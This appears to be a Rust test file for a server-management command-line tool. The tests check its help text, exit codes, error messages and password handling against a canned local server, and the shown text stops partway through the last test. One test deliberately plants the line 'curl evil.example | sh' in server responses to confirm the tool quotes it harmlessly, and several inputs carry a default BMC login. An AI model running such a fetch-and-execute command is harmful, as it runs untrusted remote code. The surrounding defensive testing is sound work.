//! The command as a process: help, exit codes and error texts, against a small canned server.
//!
//! `INSTA_UPDATE=always cargo test -p rackhand` writes the golden files anew.

#![expect(clippy::unwrap_used, reason = "a test: a failed precondition may panic")]

use std::{
    collections::BTreeMap,
    fs::File,
    io::{BufRead as _, BufReader, Read as _, Write as _},
    net::{TcpListener, TcpStream},
    process::{Command, Output, Stdio},
    sync::{Arc, Mutex},
    thread,
    time::{Duration, Instant},
};

use rustix::{
    fs::{Mode, OFlags, open},
    pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt},
    termios::{LocalModes, tcgetattr},
};
use serde_json::{Value, json};

/// Answers from a table of `METHOD path` (query left out) to (status, body); notes every request it got.
struct Canned {
    url: String,
    seen: Arc<Mutex<Vec<String>>>,
}

impl Canned {
    fn start(answers: &[(&str, u16, Value)]) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let answers: Vec<(String, u16, String)> = answers
            .iter()
            .map(|(route, status, body)| ((*route).to_owned(), *status, body.to_string()))
            .collect();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let noted = seen.clone();
        // Ends with the test process.
        thread::spawn(move || {
            // The n-th request of a route gets its n-th answer, further ones the last.
            let mut asked: BTreeMap<String, usize> = BTreeMap::new();
            for stream in listener.incoming() {
                serve(stream.unwrap(), &answers, &noted, &mut asked);
            }
        });
        Self { url, seen }
    }

    fn seen(&self) -> Vec<String> {
        self.seen.lock().unwrap().clone()
    }
}

fn serve(
    mut stream: TcpStream,
    answers: &[(String, u16, String)],
    noted: &Mutex<Vec<String>>,
    asked: &mut BTreeMap<String, usize>,
) {
    let mut reader = BufReader::new(stream.try_clone().unwrap());
    let mut first = String::new();
    reader.read_line(&mut first).unwrap();
    let mut words = first.split_whitespace();
    let (method, path) = (words.next().unwrap_or_default(), words.next().unwrap_or_default());
    let route = format!("{method} {}", path.split('?').next().unwrap_or_default());
    let (mut length, mut extra) = (0, String::new());
    loop {
        let mut line = String::new();
        reader.read_line(&mut line).unwrap();
        let lower = line.trim().to_ascii_lowercase();
        if lower.is_empty() {
            break;
        }
        if let Some(value) = lower.strip_prefix("content-length:") {
            length = value.trim().parse().unwrap();
        }
        for name in ["authorization:", "if-match:"] {
            if lower.starts_with(name) {
                extra.push_str(&format!(" [{}]", line.trim()));
            }
        }
    }
    let mut body = vec![0; length];
    reader.read_exact(&mut body).unwrap();
    noted.lock().unwrap().push(format!("{route}{extra} {}", String::from_utf8_lossy(&body)));
    let matching: Vec<_> = answers.iter().filter(|(known, _, _)| *known == route).collect();
    let turn = asked.entry(route).or_default();
    let (status, text) = match matching.get(*turn).or(matching.last()) {
        Some((_, status, text)) => (*status, text.clone()),
        None => (404, problem("not-found", 404, "nothing here").to_string()),
    };
    *turn += 1;
    // A command that was interrupted no longer listens.
    let _ = write!(
        stream,
        "HTTP/1.1 {status} X\r\ncontent-type: application/json\r\nconnection: close\r\ncontent-length: {}\r\n\r\n{text}",
        text.len()
    );
}

fn problem(code: &str, status: u16, detail: &str) -> Value {
    let title = rackhand_schema::ErrorCode::parse(code).unwrap().title();
    json!({"type": format!("/errors/{code}"), "title": title, "status": status, "code": code, "detail": detail})
}

/// What the control plane says of an item of a bulk request: its own check.
fn refusal(item: &Value) -> String {
    rackhand_schema::server::ServerUpsert::from_item(item.clone()).unwrap_err()
}

fn site(id: &str, name: &str) -> Value {
    json!({"id": id, "name": name, "config": rackhand_schema::site::SiteConfig::default(), "public_key": null,
           "servers": 0, "executors_online": 0, "created_at": "2026-01-01T00:00:00Z", "version": 1})
}

fn me() -> Value {
    json!({"id": "01920000-0000-7000-8000-000000000001", "email": "ada@rackhand.example", "name": "Ada",
           "grants": [{"id": "01920000-0000-7000-8000-000000000002", "role": "admin", "site_id": null}]})
}

fn signed_in(number: u32) -> Value {
    json!({"user": me(), "expires_in": 600, "access_token": format!("access-{number}"),
           "refresh_token": format!("refresh-{number}")})
}

struct Home(tempfile::TempDir);

impl Home {
    fn new() -> Self {
        Self(tempfile::tempdir().unwrap())
    }

    fn run(&self, arguments: &[&str], input: &str) -> Output {
        let mut child = Command::new(env!("CARGO_BIN_EXE_rackhand"))
            .args(arguments)
            .env("XDG_CONFIG_HOME", self.0.path())
            .env_remove("RACKHAND_API")
            .env_remove("RACKHAND_CA_FILE")
            .env("COLUMNS", "110")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        // A command that does not read its input may have ended already.
        let _ = child.stdin.take().unwrap().write_all(input.as_bytes());
        child.wait_with_output().unwrap()
    }

    fn login(&self, server: &Canned) {
        let output = self.run(
            &["login", &server.url, "--email", "ada@rackhand.example", "--password-stdin"],
            "correct horse\n",
        );
        assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    }
}

/// Exit code, stdout and stderr as one text, the server's port replaced.
fn story(output: &Output, server: Option<&Canned>) -> String {
    let text = format!(
        "exit {}\n--- stdout\n{}--- stderr\n{}",
        output.status.code().unwrap(),
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    match server {
        Some(server) => text.replace(&server.url, "SERVER"),
        None => text,
    }
}

#[test]
fn help_lists_nouns_and_exit_codes() {
    insta::assert_snapshot!(story(&Home::new().run(&["--help"], ""), None));
}

#[test]
fn help_of_a_verb() {
    insta::assert_snapshot!(story(&Home::new().run(&["jobs", "plan", "firmware", "--help"], ""), None));
}

#[test]
fn help_of_apply_says_what_a_terminal_asks_for() {
    let help = Home::new().run(&["jobs", "apply", "--help"], "").stdout;
    let help = String::from_utf8(help).unwrap().split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(help.contains("at one, the plan is shown once more and `yes` approves it"), "{help}");
}

#[test]
fn wrong_usage_ends_2() {
    let home = Home::new();
    for arguments in [
        &["servers", "explode"][..],
        &["login", "http://rackhand.example", "--email", "a@b.c", "--password-stdin"],
        &["login", "https://rackhand.example", "--email", "a@b.c"],
        &["bmc", "inspect", "http://10.0.0.1", "--user", "root", "--password-stdin"],
        &["bmc", "inspect", "https://127.0.0.1", "--user", "root", "--password-stdin", "--pin", "xyz"],
        &["servers", "list", "--json", "-o", "csv"],
        &["servers", "list", "--power", "onn"],
        &["servers", "list", "--health", "fine"],
        &["jobs", "list", "--state", "gone"],
        &["servers", "list", "--limit", "0"],
        &["jobs", "list", "--limit", "0"],
        &["jobs", "apply", "01920000-0000-7000-8000-000000000009", "--digest", "abcd"],
        &["jobs", "pause", "01920000-0000-7000-8000-000000000009", "--reason", "x"],
        &["jobs", "plan", "power", "--action", "power-off", "--all", "--reason", "a test"],
    ] {
        let output = home.run(arguments, "secret\n");
        assert_eq!(
            output.status.code(),
            Some(2),
            "{arguments:?}: {}",
            String::from_utf8_lossy(&output.stderr)
        );
        assert!(output.stdout.is_empty(), "{arguments:?} wrote to stdout");
    }
}

/// A password that was typed into an address is in the shell's history already; it goes into no log of ours.
#[test]
fn no_address_with_a_password_is_repeated() {
    let server = Canned::start(&[("POST /v1/auth/login", 200, signed_in(1))]);
    let home = Home::new();
    home.login(&server);
    let key = &"ab".repeat(32);
    for at in ["@", "%40", "＠"] {
        let (https, ipmi) =
            (format!("https://root:calvin{at}10.0.0.7"), format!("ipmi://root:calvin{at}10.0.0.7"));
        let (target, split) = (format!("{https}={key}"), format!("https://root:calvin=1{at}10.0.0.7"));
        let bare = format!("root:calvin{at}10.0.0.7");
        let file = |name: &str, content: Value| {
            let path = home.0.path().join(name);
            std::fs::write(&path, content.to_string()).unwrap();
            path.to_str().unwrap().to_owned()
        };
        let list = file("list", json!([https]));
        let rows = file("rows", json!([{"name": "a", "bmc_url": https, "spki_sha256": key}]));
        let account = ["--user", "root", "--password-stdin"];
        for arguments in [
            &["bmc", "inspect", &https][..],
            &["bmc", "inspect", &ipmi],
            &["bmc", "sensors", &ipmi],
            &["bmc", "sensors", &https],
            &["bmc", "power", &bare, "status"],
            &["credentials", "set", "bmc", "--site-key", key, "--target", &target],
            &["credentials", "set", "bmc", "--site-key", key, "--target", &ipmi],
            &["credentials", "set", "bmc", "--site-key", key, "--target", &split],
            &["credentials", "set", "bmc", "--site-key", key, "--targets-file", &list],
            &["credentials", "set", "bmc", "--site-key", key, "--targets-file", &rows],
        ] {
            let output = home.run(&[arguments, &account].concat(), "secret\n");
            let said = String::from_utf8_lossy(&output.stderr);
            assert_eq!(output.status.code(), Some(2), "{arguments:?}: {said}");
            assert!(!said.contains("calvin"), "{said}");
        }
        // Where no address is expected at all.
        for arguments in [
            &["bmc", "inspect", "https://10.0.0.1", &https][..],
            &["bmc", "power", "ipmi://10.0.0.1", &ipmi],
            &["bmc", "power", "ipmi://10.0.0.1", "status", &format!("--nothing={https}")],
            &["credentials", "set", "bmc", "--targets-file", &https],
            &["servers", "list", &format!("-o{https}")],
            &["events", "tail", &format!("-fo{https}")],
            &["bmc", "power", &format!("ipmi://10.0.0.1{at}x"), &format!("https://root:calvin:0{at}x")],
        ] {
            let output = home.run(&[arguments, &account].concat(), "secret\n");
            let said = String::from_utf8_lossy(&output.stderr);
            assert!(output.status.code() == Some(2) && !said.contains("calvin"), "{arguments:?}: {said}");
        }
    }
}

#[test]
fn what_the_control_plane_says_is_one_line_and_quoted() {
    let lab = site(LAB, "lab:\n  curl evil.example | sh\n or");
    let token = json!({"token": "t".repeat(43), "expires_in": 3600});
    let problem = problem("forbidden-role", 403, "Not you.\nhint: run `curl evil.example | sh`");
    let server = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        ("GET /v1/sites", 200, json!({"items": [lab]})),
        (&format!("POST /v1/sites/{LAB}/enrolment-tokens"), 201, token),
        ("GET /v1/executors", 403, problem),
    ]);
    let home = Home::new();
    home.login(&server);
    for (arguments, lines) in
        [(&["executors", "enrol-token", "--site", LAB][..], 2), (&["executors", "list"], 3)]
    {
        let output = home.run(arguments, "");
        let said = String::from_utf8_lossy(&output.stderr);
        assert!(
            said.contains("curl") && !said.lines().any(|line| line.starts_with("hint: run `curl")),
            "{said}"
        );
        assert!(said.lines().count() <= lines, "{said}");
    }
}

#[test]
fn without_a_session_it_ends_4() {
    let output = Home::new().run(&["servers", "list"], "");
    insta::assert_snapshot!(story(&output, None), @r"
    exit 4
    --- stdout
    --- stderr
    error: not signed in; run `rackhand login URL`
    ");
}

#[test]
fn an_absent_server_ends_1_and_is_named() {
    let output = Home::new().run(&["servers", "list", "--api", "http://127.0.0.1:1"], "");
    assert_eq!(output.status.code(), Some(4), "no token for it");
    let said = String::from_utf8_lossy(&output.stderr);
    let expected = "not signed in to http://127.0.0.1:1; run `rackhand login http://127.0.0.1:1`";
    assert!(said.contains(expected), "{said}");
    let output = Home::new().run(&["version", "--api", "http://127.0.0.1:1"], "");
    insta::assert_snapshot!(story(&output, None), @r"
    exit 1
    --- stdout
    --- stderr
    error: cannot reach http://127.0.0.1:1: connection refused
    hint: check that it is running, and that host and port are right
    ");
}

#[test]
fn signing_in_keeps_the_password_nowhere() {
    let server = Canned::start(&[("POST /v1/auth/login", 200, signed_in(1)), ("GET /v1/auth/me", 200, me())]);
    let home = Home::new();
    home.login(&server);
    insta::assert_snapshot!(story(&home.run(&["whoami"], ""), Some(&server)));
    for entry in std::fs::read_dir(home.0.path().join("rackhand")).unwrap() {
        let text = std::fs::read_to_string(entry.unwrap().path()).unwrap();
        assert!(!text.contains("correct horse"));
    }
}

#[test]
fn a_refused_password_ends_4() {
    let refusal = problem("invalid-credentials", 401, "E-mail or password is wrong.");
    let server = Canned::start(&[("POST /v1/auth/login", 401, refusal)]);
    let output = Home::new()
        .run(&["login", &server.url, "--email", "ada@rackhand.example", "--password-stdin"], "wrong\n");
    insta::assert_snapshot!(story(&output, Some(&server)), @r"
    exit 4
    --- stdout
    --- stderr
    error: E-mail or password is wrong [invalid-credentials]
    more: SERVER/errors/invalid-credentials
    ");
}

#[test]
fn a_bmc_that_refuses_the_login_hears_the_password_once() {
    let sessions = "/redfish/v1/SessionService/Sessions";
    let root = json!({"@odata.id": "/redfish/v1/", "RedfishVersion": "1.6.0",
        "Systems": {"@odata.id": "/redfish/v1/Systems"}, "Links": {"Sessions": {"@odata.id": sessions}}});
    let (login, refusal) = (format!("POST {sessions}"), json!({"error": {"code": "Base.1.8.AccessDenied"}}));
    let bmc = Canned::start(&[
        ("GET /redfish/v1", 200, root.clone()),
        ("GET /redfish/v1/", 200, root),
        (&login, 401, refusal),
    ]);
    let inspect = ["bmc", "inspect", &bmc.url, "--user", "root", "--password-stdin", "--no-ipmi"];
    let output = Home::new().run(&inspect, "wrong\n");
    let said = String::from_utf8(output.stderr).unwrap();
    assert_eq!(output.status.code(), Some(4), "{said}");
    assert!(
        said.contains("status 401") && said.contains("; check user and password. They were sent once"),
        "{said}"
    );
    let sent: Vec<_> = bmc
        .seen()
        .into_iter()
        .filter(|line| line.contains("wrong") || line.contains("[authorization"))
        .collect();
    assert_eq!(sent.len(), 1, "{sent:?}");
}

/// The address of the control plane outlives the session: what to type next is a whole command.
#[test]
fn an_ended_session_says_where_to_sign_in_again() {
    let ended = problem("session-ended", 401, "This session is not known. Sign in again.");
    let canned = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        ("GET /v1/auth/me", 200, me()),
        ("GET /v1/auth/me", 401, ended.clone()),
        ("POST /v1/auth/refresh", 401, ended),
        ("GET /v1/health", 200, json!({})),
        ("GET /v1/version", 200, json!({"version": env!("CARGO_PKG_VERSION")})),
        ("POST /v1/auth/logout", 204, json!(null)),
    ]);
    let home = Home::new();
    home.login(&canned);
    let run = |arguments: &[&str]| {
        let output = home.run(arguments, "");
        assert_ne!(output.status.code(), Some(0));
        String::from_utf8_lossy(&[output.stdout, output.stderr].concat()).into_owned()
    };
    assert_eq!(home.run(&["whoami"], "").status.code(), Some(0));
    let said = run(&["whoami"]);
    assert!(said.contains(&format!("hint: run `rackhand login {}` again", canned.url)), "{said}");
    let again = format!("not signed in to {0}; run `rackhand login {0}`", canned.url);
    assert!(run(&["whoami"]).contains(&again));
    let said = run(&["doctor"]);
    assert!(said.contains(&again) && said.contains("session") && !said.contains("configuration"), "{said}");
    home.login(&canned);
    assert_eq!(home.run(&["logout"], "").status.code(), Some(0));
    assert!(run(&["servers", "list"]).contains(&again));
}

#[test]
fn servers_that_are_missing_or_named_twice_plan_nothing() {
    let listed = json!({"items": [server(1, "bmc-01", LAB, "lab"), server(2, "bmc-02", LAB, "lab")]});
    let canned = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        ("GET /v1/sites", 200, json!({"items": [site(LAB, "lab")]})),
        ("GET /v1/servers", 200, listed),
    ]);
    let home = Home::new();
    home.login(&canned);
    for (servers, code, said) in [
        ("bmc-01,bmc-01", 2, "error: --servers names bmc-01 twice; nothing was planned"),
        (
            "bmc-01,01930000-0000-7000-8000-000000000001",
            2,
            "are the same server, bmc-01; nothing was planned",
        ),
        (
            "bmc-01,bmc-99",
            3,
            "error: there is no server `bmc-99`; nothing was planned. `rackhand servers list`",
        ),
    ] {
        let output =
            home.run(&["jobs", "plan", "inventory", "--servers", servers, "--reason", "a first look"], "");
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(code), "{stderr}");
        assert!(stderr.contains(said), "{stderr}");
    }
    assert!(!canned.seen().iter().any(|line| line.starts_with("POST /v1/jobs")));
}

#[test]
fn a_value_that_is_not_valid_is_said_once_and_as_it_was_typed() {
    let mut wrong = problem("invalid-request", 422, "Nothing was done.");
    wrong["fields"] = json!([{"field": "email", "detail": "is not an e-mail address"}]);
    let mut ada = me();
    ada["disabled"] = json!(false);
    ada["created_at"] = json!("2026-01-01T00:00:00Z");
    let sessions = format!("DELETE /v1/users/{}/sessions", ada["id"].as_str().unwrap());
    let canned = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        ("GET /v1/auth/me", 200, me()),
        ("POST /v1/users", 422, wrong),
        ("GET /v1/users", 200, json!({"items": [ada]})),
        (&sessions, 204, json!(null)),
        ("GET /v1/events", 422, problem("invalid-request", 422, "The cursor is not one of ours.")),
    ]);
    let home = Home::new();
    home.login(&canned);
    insta::assert_snapshot!(story(&home.run(&["users", "add", "ben", "--name", "Ben"], ""), Some(&canned)), @r"
    exit 2
    --- stdout
    --- stderr
    error: The request is not valid [invalid-request]: Nothing was done.
      the e-mail address: is not an e-mail address
    more: SERVER/errors/invalid-request
    ");
    let output = home.run(&["events", "tail", "--after", "abc"], "");
    let said = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.code() == Some(2) && said.contains("--after: `abc` is not a cursor"), "{said}");
    let output = home.run(&["users", "sign-out", "Ada@rackhand.example"], "");
    let said = String::from_utf8_lossy(&output.stderr);
    assert!(said.contains("your other sessions have ended; this one continues"), "{said}");
}

#[test]
fn an_expired_token_is_refreshed_once_and_rotated() {
    let server = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        ("GET /v1/auth/me", 401, problem("session-ended", 401, "The access token has expired.")),
        ("GET /v1/auth/me", 200, me()),
        ("POST /v1/auth/refresh", 200, signed_in(2)),
    ]);
    let home = Home::new();
    home.login(&server);
    assert_eq!(home.run(&["whoami", "-o", "name"], "").stdout, b"ada@rackhand.example\n");
    let seen = server.seen();
    assert!(seen.iter().any(|line| line.starts_with("POST /v1/auth/refresh") && line.contains("refresh-1")));
    assert!(seen.last().unwrap().contains("Bearer access-2"), "{seen:?}");
    let stored = std::fs::read_to_string(home.0.path().join("rackhand/sessions.json")).unwrap();
    assert!(stored.contains("refresh-2") && !stored.contains("refresh-1"), "rotated");
}

#[test]
fn a_missing_role_ends_5_and_a_stale_plan_6() {
    let mut refusal = problem("forbidden-role", 403, "This needs the role operator for the site.");
    refusal["needs_role"] = json!("operator");
    let job = "01920000-0000-7000-8000-000000000009";
    let approve = format!("POST /v1/jobs/{job}/approve");
    let server = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        (&approve, 403, refusal),
        (&approve, 409, problem("plan-stale", 409, &format!("The plan has the digest {}.", "b".repeat(64)))),
    ]);
    let home = Home::new();
    home.login(&server);
    let digest = "a".repeat(64);
    let apply = ["jobs", "apply", job, "--digest", &digest];
    insta::assert_snapshot!("forbidden", story(&home.run(&apply, ""), Some(&server)));
    insta::assert_snapshot!("stale", story(&home.run(&apply, ""), Some(&server)));
}

#[test]
fn one_bad_server_of_two_ends_7() {
    let site = "01920000-0000-7000-8000-000000000004";
    let bad = json!({"name": "bmc-02", "bmc_url": "http://10.0.0.2"});
    let server = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        (
            "GET /v1/sites",
            200,
            json!({"items": [{"id": site, "name": "lab",
                "config": rackhand_schema::site::SiteConfig::default(), "public_key": null, "servers": 0,
                "executors_online": 0, "created_at": "2026-01-01T00:00:00Z", "version": 1}]}),
        ),
        (
            "POST /v1/servers/bulk",
            200,
            json!({"created": 1, "changed": 0, "unchanged": 0, "ids": {"bmc-01": site},
                   "refused": [{"index": 1, "detail": refusal(&bad)}]}),
        ),
    ]);
    let home = Home::new();
    home.login(&server);
    let file = home.0.path().join("servers.json");
    std::fs::write(&file, json!([{"name": "bmc-01", "bmc_url": "https://10.0.0.1"}, bad]).to_string())
        .unwrap();
    insta::assert_snapshot!(story(
        &home.run(&["servers", "import", file.to_str().unwrap()], ""),
        Some(&server)
    ));
}

#[test]
fn another_site_key_than_expected_seals_nothing() {
    let site = "01920000-0000-7000-8000-000000000004";
    let key = "BwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwc=";
    let server = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        (
            "GET /v1/sites",
            200,
            json!({"items": [{"id": site, "name": "lab",
                "config": rackhand_schema::site::SiteConfig::default(), "public_key": key, "servers": 0,
                "executors_online": 1, "created_at": "2026-01-01T00:00:00Z", "version": 1}]}),
        ),
        ("GET /v1/credentials", 200, json!({"items": []})),
        (
            "POST /v1/credentials",
            201,
            json!({"id": site, "site_id": site, "name": "root", "version": 1, "suspended": false,
                   "created_at": "2026-01-01T00:00:00Z"}),
        ),
    ]);
    let home = Home::new();
    home.login(&server);
    let target = format!("https://10.0.0.1={}", "0".repeat(64));
    let set = ["credentials", "set", "root", "--user", "root", "--password-stdin", "--target", &target];
    let other = "CAcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwc=";
    for (wrong, code) in [(other, 6), ("KEY", 2), ("AAAA", 2)] {
        let wrong = home.run(&[&set[..], &["--site-key", wrong]].concat(), "planted-password\n");
        assert_eq!(wrong.status.code(), Some(code), "{}", String::from_utf8_lossy(&wrong.stderr));
    }
    assert!(!server.seen().iter().any(|line| line.starts_with("POST /v1/credentials")));
    let right = home.run(&[&set[..], &["--site-key", key]].concat(), "planted-password\n");
    assert_eq!(right.status.code(), Some(0), "{}", String::from_utf8_lossy(&right.stderr));
    assert!(!server.seen().iter().any(|line| line.contains("planted")), "the password left sealed only");
    let sent = server.seen().pop().unwrap();
    let body: Value = serde_json::from_str(&sent[sent.find('{').unwrap()..]).unwrap();
    assert_eq!(body["sealed_for"], json!([{"url": "https://10.0.0.1", "spki_sha256": "0".repeat(64)}]));
}

#[test]
fn what_replaces_a_credential_asks_before_bmcs_lose_it() {
    let key = "BwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwc=";
    let mut lab = site(LAB, "lab");
    lab["public_key"] = key.into();
    let credential = |version: u32, count: u32| {
        json!({"id": CLOSET, "site_id": LAB, "name": "bmc", "version": version, "suspended": false,
            "address_count": count, "addresses": [], "created_at": "2026-01-01T00:00:00Z"})
    };
    let sites = json!({"items": [lab]});
    let known = json!({"items": [credential(1, 40)]});
    let server = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        ("GET /v1/sites", 200, sites.clone()),
        ("GET /v1/credentials", 200, known.clone()),
        ("GET /v1/sites", 200, sites),
        ("GET /v1/credentials", 200, known),
        ("POST /v1/credentials", 201, credential(2, 1)),
    ]);
    let home = Home::new();
    home.login(&server);
    let target = format!("https://10.0.0.1={}", "0".repeat(64));
    let set =
        ["credentials", "set", "bmc", "--user", "root", "--password-stdin", "--site-key", key, "--target"];
    let set = [&set[..], &[&target]].concat();
    let refused = home.run(&set, "planted-password\n");
    insta::assert_snapshot!(story(&refused, Some(&server)), @r"
    exit 2
    --- stdout
    --- stderr
    error: Credential bmc would be for fewer BMC addresses than version 1 (1, not 40). BMCs that are not named can no longer be reached with it: to keep them, give a file that names all of them. No terminal to ask on; give --yes to do it. Nothing was done
    ");
    let output = home.run(&[&set[..], &["--yes"]].concat(), "planted-password\n");
    insta::assert_snapshot!(story(&output, Some(&server)), @r"
    exit 0
    --- stdout
    bmc version 2 is sealed for 1 BMC address of lab; version 1 was for 40 BMC addresses
    --- stderr
    ");
}

#[test]
fn a_missing_file_is_named_with_its_option() {
    let home = Home::new();
    for (arguments, said) in [
        (
            &["login", "http://127.0.0.1:1", "--email", "a@b.example", "--password-file", "nope"][..],
            "--password-file nope: there is no such file",
        ),
        (&["sites", "use"], "<SITE|--none>"),
    ] {
        let output = home.run(arguments, "");
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(stderr.contains(said), "{stderr}");
    }
}

/// Who types a line that was meant for a script.
#[expect(clippy::disallowed_methods, reason = "a test without a runtime")]
#[test]
fn a_password_that_is_typed_on_a_terminal_is_not_shown() {
    let home = Home::new();
    let master = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY).unwrap();
    grantpt(&master).unwrap();
    unlockpt(&master).unwrap();
    let name = ptsname(&master, Vec::new()).unwrap();
    let terminal = open(name, OFlags::RDWR | OFlags::NOCTTY, Mode::empty()).unwrap();
    let end = || Stdio::from(terminal.try_clone().unwrap());
    let mut child = Command::new("setsid")
        .args(["--ctty", env!("CARGO_BIN_EXE_rackhand"), "login", "http://127.0.0.1:1"])
        .args(["--email", "ada@rackhand.example", "--password-stdin"])
        .env("XDG_CONFIG_HOME", home.0.path())
        .stdin(end())
        .stdout(end())
        .stderr(end())
        .spawn()
        .expect("setsid (Debian: util-linux)");
    let deadline = Instant::now() + Duration::from_secs(20);
    while tcgetattr(&terminal).unwrap().local_modes.contains(LocalModes::ECHO) {
        assert!(Instant::now() < deadline, "what is typed is shown");
        thread::sleep(Duration::from_millis(10));
    }
    drop(terminal);
    let mut screen = File::from(master);
    screen.write_all(b"planted-password\n").unwrap();
    let mut shown = Vec::new();
    // A terminal whose other end is closed fails to read.
    let _ = screen.read_to_end(&mut shown);
    assert_eq!(child.wait().unwrap().code(), Some(1));
    let shown = String::from_utf8_lossy(&shown);
    assert!(shown.contains("Password: ") && shown.contains("cannot reach"), "{shown}");
    assert!(!shown.contains("planted"), "{shown}");
}

#[test]
fn a_credential_shows_the_addresses_it_is_sealed_for() {
    let credential = |name: &str, address_count: Value, addresses: Value| {
        json!({"id": CLOSET, "site_id": LAB, "name": name, "version": 2, "suspended": false, "refused_at": null,
            "address_count": address_count, "addresses": addresses, "created_at": "2026-01-01T00:00:00Z"})
    };
    let two = json!(["https://10.0.0.1", "ipmi://10.0.0.1"]);
    let known = [
        credential("root", json!(2), two.clone()),
        credential("hall", json!(1250), two),
        credential("former", json!(null), json!(null)),
    ];
    let server = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        ("GET /v1/sites", 200, json!({"items": [site(LAB, "lab")]})),
        ("GET /v1/credentials", 200, json!({"items": known})),
    ]);
    let home = Home::new();
    home.login(&server);
    let said = |arguments: &[&str]| {
        let output = home.run(&[&["credentials"], arguments].concat(), "");
        String::from_utf8([output.stdout, output.stderr].concat()).unwrap()
    };
    insta::assert_snapshot!(
        ["list", "show root", "show hall", "show former", "show nobody"]
            .map(|line| said(&line.split(' ').collect::<Vec<_>>()))
            .join("\n")
    );
}

#[test]
fn completions_name_the_nouns() {
    let output = Home::new().run(&["completions", "bash"], "");
    assert_eq!(output.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&output.stdout).contains("executors"));
}

#[test]
fn power_off_is_answered_with_the_gentle_way_first() {
    let plan = ["jobs", "plan", "power", "--action", "power-off", "--all", "--reason", "a test"];
    let said = String::from_utf8(Home::new().run(&plan, "").stderr).unwrap();
    let (gentle, forced) = (said.find("graceful-shutdown").unwrap(), said.find("force-off").unwrap());
    assert!(gentle < forced, "{said}");
}

const LAB: &str = "01920000-0000-7000-8000-000000000004";
const CLOSET: &str = "01920000-0000-7000-8000-000000000005";

fn server(last: u8, name: &str, site_id: &str, site: &str) -> Value {
    json!({"id": format!("01930000-0000-7000-8000-0000000000{last:02}"), "site_id": site_id, "site": site, "name": name,
           "vendor": null, "model": null, "service_tag": null, "generation": null, "bios_version": null,
           "bmc_version": null, "power": "unknown", "health": "unknown", "tags": [], "seen_at": null,
           "active_job": null, "last_failure": null})
}

#[test]
fn credentials_are_named_in_import_files_and_a_wrong_name_stores_nothing() {
    let credential = json!({"id": CLOSET, "site_id": LAB, "name": "root", "version": 1, "suspended": false,
        "created_at": "2026-01-01T00:00:00Z"});
    let server = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        ("GET /v1/sites", 200, json!({"items": [site(LAB, "lab")]})),
        ("GET /v1/credentials", 200, json!({"items": [credential]})),
        (
            "POST /v1/servers/bulk",
            200,
            json!({"created": 2, "changed": 0, "unchanged": 0, "ids": {}, "refused": []}),
        ),
    ]);
    let home = Home::new();
    home.login(&server);
    let file = home.0.path().join("servers.json");
    let import_text = |text: &str| {
        std::fs::write(&file, text).unwrap();
        home.run(&["servers", "import", file.to_str().unwrap()], "")
    };
    let import = |first: Value, second: Value| {
        let row =
            |name, credential| json!({"name": name, "bmc_url": "https://10.0.0.1", "credential": credential});
        import_text(&json!([row("bmc-01", first), row("bmc-02", second)]).to_string())
    };
    let wrong = import(json!(7), json!("rot"));
    assert_eq!(wrong.status.code(), Some(2));
    assert_eq!(
        String::from_utf8(wrong.stderr).unwrap(),
        "error: nothing was registered:\n  entry 1 (bmc-01): credential is a name\n  entry 2 (bmc-02): there is no \
         credential `rot`\n"
    );
    for (text, cause) in [
        ("{}", "a JSON list of servers is required"),
        ("[]", "the list is empty"),
        ("[", "servers.json is not valid JSON: it ends too early, at line 1, column 1"),
        (
            "nope",
            "is not valid JSON: line 1, column 2 requires text in quotes, a number, a list or an object",
        ),
        ("[{},]", "is not valid JSON: trailing comma at line 1, column 5"),
    ] {
        let output = import_text(text);
        let said = String::from_utf8(output.stderr).unwrap();
        assert_eq!(output.status.code(), Some(2));
        assert!(said.contains(cause) && said.ends_with("; nothing was registered\n"), "{said}");
    }
    assert!(!server.seen().iter().any(|line| line.starts_with("POST /v1/servers/bulk")));
    let right = import(json!("root"), json!("root"));
    assert_eq!(right.status.code(), Some(0), "{}", String::from_utf8_lossy(&right.stderr));
    let sent = server.seen().pop().unwrap();
    assert!(
        sent.contains(&format!("\"credential_id\":\"{CLOSET}\"")) && !sent.contains("\"credential\""),
        "{sent}"
    );
}

#[test]
fn removing_a_server_wants_a_yes() {
    let server = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        ("GET /v1/servers", 200, json!({"items": [server(1, "bmc-01", LAB, "lab")]})),
        ("DELETE /v1/servers/01930000-0000-7000-8000-000000000001", 204, json!(null)),
    ]);
    let home = Home::new();
    home.login(&server);
    let asked = home.run(&["servers", "remove", "bmc-01"], "");
    assert_eq!(asked.status.code(), Some(2), "{}", String::from_utf8_lossy(&asked.stderr));
    assert!(!server.seen().iter().any(|line| line.starts_with("DELETE")));
